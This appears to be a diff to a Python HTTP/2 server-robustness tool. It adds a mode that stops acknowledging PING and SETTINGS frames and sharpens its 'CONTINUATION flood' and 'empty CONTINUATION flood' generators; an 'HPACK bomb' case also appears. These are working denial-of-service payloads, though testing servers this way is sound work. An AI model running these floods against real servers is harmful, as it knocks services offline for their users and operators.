@@ -84,6 +84,7 @@ class Link:
         self._writing = threading.Lock()
         #: Answers that could not be sent because something else was just being sent.
         self._answers: queue.Queue[bytes] = queue.Queue()
+        self._mute = False
         self._answered = threading.Semaphore(0)
         #: What came on the streams.
         self._data: queue.Queue[bytes] = queue.Queue()
@@ -102,8 +103,9 @@ class Link:
             self.send(frame(PING, b"so far ?"))
             self._answered.acquire(timeout=PATIENCE)
 
-    def listen(self) -> None:
-        """Begins to read, and to answer what has to be: not before this end has said its first words."""
+    def listen(self, *, mute: bool = False) -> None:
+        """Begins to read, and to answer what has to be, unless ``mute``: the greeting comes first."""
+        self._mute = mute
         self._reader.start()
 
     def send(self, data: bytes) -> bool:
@@ -210,7 +212,7 @@ class Link:
             self._data.put(payload)
         elif kind == PING and flags & ACK:
             self._answered.release()
-        elif kind in (PING, SETTINGS) and not flags & ACK:
+        elif kind in (PING, SETTINGS) and not flags & ACK and not self._mute:
             self._answer(frame(kind, payload if kind == PING else b"", ACK))
 
 
@@ -297,8 +299,7 @@ def play(attack: Attack, link: Link) -> End:
     chunk = next(script)
     began = time.monotonic()
     if not attack.greets:
-        link.send(chunk)
-        link.listen()
+        link.listen(mute=True)
     while link.send(chunk) and time.monotonic() < began + PATIENCE:
         following = next(script, None)
         if following is None:
@@ -435,14 +436,16 @@ once("PUSH_PROMISE", frame(PUSH, number(2) + REQUEST, END_HEADERS, 1), PROTOCOL_
 
 @attack("CONTINUATION flood", CALM)
 def _continuation(link: Link) -> Iterator[bytes]:
-    yield frame(HEADERS, REQUEST, 0, 1)
-    yield from again(frame(CONTINUATION, b"\x00\x01a\x01b" * 100, 0, 1))
+    more = frame(CONTINUATION, b"\x00\x01a\x01b" * 100, 0, 1)
+    yield frame(HEADERS, REQUEST, 0, 1) + more * BURST  # with nothing in between
+    yield from again(more)
 
 
 @attack("empty CONTINUATION flood", CALM)
 def _empty_continuation(link: Link) -> Iterator[bytes]:
-    yield frame(HEADERS, REQUEST, 0, 1)
-    yield from again(frame(CONTINUATION, b"", 0, 1))
+    more = frame(CONTINUATION, b"", 0, 1)
+    yield frame(HEADERS, REQUEST, 0, 1) + more * BURST
+    yield from again(more)
 
 
 @attack("HPACK bomb", CALM)
